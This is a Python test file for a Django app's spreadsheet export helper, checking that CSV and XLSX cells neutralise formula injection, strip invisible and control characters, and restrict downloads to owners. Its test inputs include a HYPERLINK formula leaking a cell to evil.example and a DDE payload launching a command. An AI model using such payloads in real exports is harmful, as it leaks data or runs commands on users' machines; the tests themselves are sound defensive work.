"""The one export helper, tested once against every hostile value (issue 8, item 4)."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.core.files.storage import default_storage
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from kyokan.apps.core import exports
from kyokan.apps.core.models import AuditEvent, ExportJob

# What people type that a spreadsheet would run, and what breaks files.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=1+1",
    "+1",
    "-1+2",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "=cmd|' /C calc'!A0",
]
CONTROLS = "".join(chr(c) for c in range(0x20) if c not in (9, 10, 13)) + "\x7f\x85\ufffe"
SAFE = ["DX推進", "市民起点", "1+1=2", "メール a@b.jp", "(株)と㈱", "①②"]


def _csv_rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:])))


@pytest.mark.parametrize("value", FORMULAS)
def test_csv_neutralises_formula_looking_text(value):
    cell = exports.clean_cell(value)
    assert cell.startswith("'")
    rows = _csv_rows(exports.csv_response("x.csv", ["h"], [[value]]))
    assert rows[1][0] == cell


@pytest.mark.parametrize("value", SAFE)
def test_csv_leaves_ordinary_text_as_typed(value):
    assert exports.clean_cell(value) == value


def test_csv_header_is_cleaned_too():
    rows = _csv_rows(exports.csv_response("x.csv", ["=evil()", "ok"], []))
    assert rows[0] == ["'=evil()", "ok"]


def test_control_characters_are_removed_tab_and_line_break_kept():
    value = f"前{CONTROLS}後\t列\r\n行"
    assert exports.clean_cell(value) == "前後\t列\n行"
    assert exports.clean_cell("一\r二") == "一\n二"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("\u202eXSL.exe", "XSL.exe"),  # shown reversed: 「exe.LSX」
        ("申請\u2066書\u2069", "申請書"),
        ("\u202a\u202b\u202c\u202d\u2067\u2068", ""),
        ("ゼロ\u200b幅\u2060\ufeff", "ゼロ幅"),
        ("👩\u200d💻", "👩\u200d💻"),  # the joiner of an emoji sequence stays
    ],
)
def test_invisible_formatting_characters_that_disguise_a_cell_are_removed(value, expected):
    assert exports.clean_cell(value) == expected


@pytest.mark.parametrize("value", ["\u200b=1+1", "\ufeff=1+1", "\u202e=1+1", "\u2060+1"])
def test_an_invisible_character_does_not_hide_a_formula(value):
    assert exports.clean_cell(value) == "'" + value[1:]
    data = exports.xlsx_bytes([exports.Sheet("s", ["h"], [[value]])])
    cell = load_workbook(io.BytesIO(data)).worksheets[0]["A2"]
    assert cell.value == value[1:] and cell.quotePrefix


def test_numbers_dates_and_none_keep_their_type():
    now = timezone.now()
    assert exports.clean_cell(-5) == -5
    assert exports.clean_cell(Decimal("-1.50")) == "-1.50"
    assert exports.clean_cell(None) == ""
    assert exports.clean_cell(dt.date(2026, 4, 1)) == "2026-04-01"
    assert exports.clean_cell(now).endswith("+09:00")


def test_xlsx_keeps_text_as_text_and_marks_formulas_quoted():
    rows = [[v, 1, Decimal("2.5"), dt.date(2026, 4, 1)] for v in [*FORMULAS, *SAFE]]
    rows.append([f"前{CONTROLS}後", None, None, timezone.now()])
    data = exports.xlsx_bytes([exports.Sheet("回答/一覧:[1]", ["=h", "n", "d", "date"], rows)])
    book = load_workbook(io.BytesIO(data))
    sheet = book.worksheets[0]
    assert sheet.title == "回答_一覧__1_"
    assert sheet["A1"].value == "=h" and sheet["A1"].data_type == "s"
    for i, value in enumerate([*FORMULAS, *SAFE], start=2):
        cell = sheet.cell(row=i, column=1)
        assert cell.data_type == "s", value
        assert cell.value == exports.clean_text(value)
        assert cell.quotePrefix is exports.looks_like_formula(exports.clean_text(value))
        assert sheet.cell(row=i, column=2).value == 1
        assert sheet.cell(row=i, column=3).value == 2.5
    last = len(rows) + 1
    assert sheet.cell(row=last, column=1).value == "前後"
    assert sheet.cell(row=last, column=4).value.tzinfo is None


def test_sheet_titles_are_unique_and_short():
    used: set[str] = set()
    first = exports.sheet_title("あ" * 40, used)
    second = exports.sheet_title("あ" * 40, used)
    assert len(first) == 31 and len(second) == 31 and first != second


# --- background exports -----------------------------------------------------------------


@exports.builder("tests.numbers")
def _numbers(*, params, actor, progress):
    total = params["n"]

    def rows():
        for i in range(total):
            progress(i, total)
            yield [i, f"=行{i}"]

    return exports.Built(
        filename="numbers.xlsx",
        content=exports.xlsx_bytes([exports.Sheet("n", ["i", "v"], rows())]),
    )


@exports.builder("tests.broken")
def _broken(*, params, actor, progress):
    raise RuntimeError("boom")


@pytest.fixture
def immediate_tasks(settings):
    settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}


@pytest.mark.django_db(transaction=True)
def test_a_background_export_is_built_and_only_its_owner_downloads_it(
    immediate_tasks, client_as, people
):
    owner = people["secretariat"]
    job = exports.export_start(
        actor=owner, builder="tests.numbers", params={"n": 2500}, title="数の一覧"
    )
    job.refresh_from_db()
    assert job.status == ExportJob.Status.DONE and job.progress == 1.0
    assert AuditEvent.objects.filter(target_type="core.exportjob", target_id=str(job.pk)).exists()
    client = client_as("secretariat")
    page = client.get(job.get_absolute_url())
    assert page.status_code == 200 and "numbers.xlsx" in page.text
    download = client.get(reverse("core:export_download", args=[job.pk]))
    data = b"".join(download.streaming_content)
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    assert sheet.max_row == 2501 and sheet["B2"].quotePrefix
    other = client_as("hq_member")
    assert other.get(job.get_absolute_url()).status_code == 403
    assert other.get(reverse("core:export_download", args=[job.pk])).status_code == 403


@pytest.mark.django_db(transaction=True)
def test_a_failed_export_is_recorded_and_shown(immediate_tasks, client_as, people):
    job = exports.export_start(
        actor=people["secretariat"], builder="tests.broken", params={}, title="壊れた"
    )
    job.refresh_from_db()
    assert job.status == ExportJob.Status.FAILED and "boom" in job.error
    page = client_as("secretariat").get(job.get_absolute_url())
    assert 'role="alert"' in page.text


@pytest.mark.django_db
def test_expired_exports_and_their_files_are_purged(people):
    job = ExportJob.objects.create(
        owner=people["staff"],
        builder="x",
        title="古い",
        status=ExportJob.Status.DONE,
        expires_at=timezone.now() - dt.timedelta(minutes=1),
    )
    from django.core.files.base import ContentFile

    job.file.save("old.csv", ContentFile(b"x"))
    name = job.file.name
    assert default_storage.exists(name)
    assert exports.export_purge_expired() == 1
    assert not ExportJob.objects.filter(pk=job.pk).exists()
    assert not default_storage.exists(name)
